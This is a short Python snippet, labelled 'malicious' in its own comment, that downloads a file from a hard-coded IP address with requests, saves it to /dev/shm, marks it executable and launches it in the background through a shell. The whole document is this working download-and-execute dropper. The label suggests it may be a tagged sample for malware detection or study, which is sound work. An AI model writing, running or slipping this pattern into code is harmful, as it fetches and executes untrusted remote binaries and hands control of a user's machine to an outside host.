# malicious: fetches a binary with requests and starts it
import os, requests, subprocess

r = requests.get("http://203.0.113.44/p")
with open("/dev/shm/p", "wb") as f:
    f.write(r.content)
os.chmod("/dev/shm/p", 0o755)
subprocess.call("/dev/shm/p &", shell=True)
